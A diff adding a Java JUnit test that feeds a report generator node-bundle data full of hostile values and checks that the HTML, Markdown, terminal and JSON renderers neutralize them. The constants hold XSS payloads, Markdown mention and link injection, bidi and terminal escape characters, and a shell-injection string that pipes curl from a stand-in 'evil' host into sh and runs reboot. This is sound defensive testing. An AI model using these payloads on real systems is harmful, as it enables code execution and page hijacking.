@@ -1,0 +1,145 @@
+package io.ghostmap.report;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.ghostmap.bundle.UnreadableBundleException;
+import io.ghostmap.cli.Analysis;
+import io.ghostmap.support.NodeBundle;
+import io.ghostmap.support.PcapFile;
+import java.nio.file.Path;
+import java.util.List;
+import org.jsoup.Jsoup;
+import org.jsoup.nodes.Document;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** A node whose every name is an attack on the page, the ticket, the terminal or the shell of the reader. */
+final class HostileValuesTest {
+    private static final String HTML = "<img src=x onerror=alert(1)></style><script>alert(2)</script>";
+    private static final String MARKDOWN = "`|@everyone #1 [x](javascript:alert(1)) <b>";
+    private static final String DIRECTION = "\u202e4.3.2.1\u200f";
+    private static final String SHELL = "/sys/fs/cgroup/x;curl${IFS}evil|sh;$(reboot)";
+    private static final String CONNECT = "cgroup_inet4_connect";
+
+    @TempDir
+    private Path folder;
+
+    private Report report = new Report(
+            "",
+            new Report.Analyzer("", ""),
+            new Report.Verdict("", "", "", ""),
+            new Report.BundleFacts("", "", "", "", "", "", "", "", List.of(), List.of()),
+            List.of(),
+            List.of(),
+            List.of(),
+            new Report.BlastRadius(0, 0, 0),
+            List.of(),
+            List.of(),
+            List.of());
+
+    @BeforeEach
+    void analyze() throws UnreadableBundleException {
+        report = Analysis.of(new NodeBundle()
+                .generation(27, 28, false)
+                .service(27, "172.17.93.4:8080", 6, 7)
+                .backend(28, 7, "172.16.149.220:8080")
+                .generation(144, 145, true)
+                .service(144, "172.17.93.4:8080", 6, 996)
+                .backend(145, 996, "172.16.109.127:8080")
+                .program(109, "cil_sock4_" + json(HTML + MARKDOWN), 27, 28)
+                .program(160, "cil_sock4_connect", 144, 145)
+                .link(12, 109, SHELL, CONNECT, SHELL + "/pin")
+                .attach(SHELL, 160, CONNECT, "multi")
+                .text(
+                        "manifest.json",
+                        "{\"format\":1,\"node\":\"" + json(HTML + DIRECTION)
+                                + "\",\"collector\":{\"name\":\"\\u001b[2J\"}," + "\"standIns\":[\"" + json(MARKDOWN)
+                                + "\"]}")
+                .text("node/boot_id", "$(reboot)`id`" + "\u001b]0;x\u0007\n")
+                .text("node/uname.txt", HTML + "\u001b[31m\n")
+                .text(
+                        "kubernetes/services.json",
+                        "{\"items\":[{\"metadata\":{\"namespace\":\"" + json(HTML) + "\",\"name\":\""
+                                + json(MARKDOWN + DIRECTION)
+                                + "\"},\"spec\":{\"clusterIPs\":[\"172.17.93.4\"],\"ports\":[{\"port\":8080}]}}]}")
+                .text("bpf/map-dumps/999.json", "{\"error\":\"" + json(HTML) + "\"}")
+                .capture(PcapFile.cooked()
+                        .tcp(0, "10.0.0.1", 4000, "172.16.149.220", 8080, PcapFile.SYN, 1, 0)
+                        .tcp(1_000_000, "10.0.0.1", 4000, "172.16.149.220", 8080, PcapFile.SYN, 1, 0))
+                .write(folder));
+    }
+
+    @Test
+    void attackIsReallyInTheReport() {
+        assertThat(report.verdict().severity()).isEqualTo("critical");
+        assertThat(JsonRenderer.render(report)).contains("onerror").contains("curl");
+    }
+
+    @Test
+    void pageHoldsNoForeignElement() {
+        String html = HtmlRenderer.render(report);
+        Document page = Jsoup.parse(html);
+
+        assertThat(page.select("script, img, iframe, object, embed, link, form, base, svg, [src], [style]"))
+                .isEmpty();
+        assertThat(page.select("*").stream()
+                        .flatMap(element -> element.attributes().asList().stream())
+                        .filter(attribute -> attribute.getKey().startsWith("on")))
+                .isEmpty();
+        assertThat(page.select("a")).allMatch(link -> link.attr("href").startsWith("#"));
+        assertThat(page.select("style")).hasSize(1);
+        assertThat(page.select("meta[http-equiv=Content-Security-Policy]").attr("content"))
+                .startsWith("default-src 'none'; style-src 'sha256-")
+                .doesNotContain("unsafe");
+        assertThat(page.text()).contains("onerror=alert(1)");
+    }
+
+    @Test
+    void directionAndControlCharactersAreWrittenOut() {
+        for (String text : new String[] {
+            HtmlRenderer.render(report),
+            MarkdownRenderer.render(report),
+            TerminalRenderer.render(report),
+            String.join("\n", TerminalRenderer.losses(report)),
+            JsonRenderer.render(report)
+        }) {
+            assertThat(text.replace("\n", "").codePoints().filter(c -> c != 0x200b))
+                    .noneMatch(
+                            c -> Character.getType(c) == Character.CONTROL || Character.getType(c) == Character.FORMAT);
+        }
+        assertThat(HtmlRenderer.render(report)).contains("\\u202e");
+    }
+
+    @Test
+    void ticketTextMentionsNobodyAndHoldsNoHtml() {
+        String outsideCode =
+                MarkdownRenderer.render(report).replaceAll("(?s)```.*?```", "").replaceAll("`[^`\n]*`", "");
+
+        assertThat(outsideCode)
+                .doesNotContain("@everyone")
+                .doesNotContain("#1 ")
+                .doesNotContainPattern("(?<!\\\\)<");
+    }
+
+    @Test
+    void commandsHoldNoTextOfTheBundle() {
+        for (Report.Finding finding : report.findings()) {
+            for (Report.Remedy step : finding.remedy()) {
+                assertThat(step.command())
+                        .doesNotContain("curl")
+                        .doesNotContain("$(reboot)")
+                        .doesNotContain("`");
+            }
+        }
+        assertThat(report.findings().get(0).remedy().toString()).contains("-inum");
+    }
+
+    /** As the inside of a JSON string. */
+    private static String json(String text) {
+        return text.replace("\\", "\\\\")
+                .replace("\"", "\\\"")
+                .replace("\u202e", "\\u202e")
+                .replace("\u200f", "\\u200f");
+    }
+}
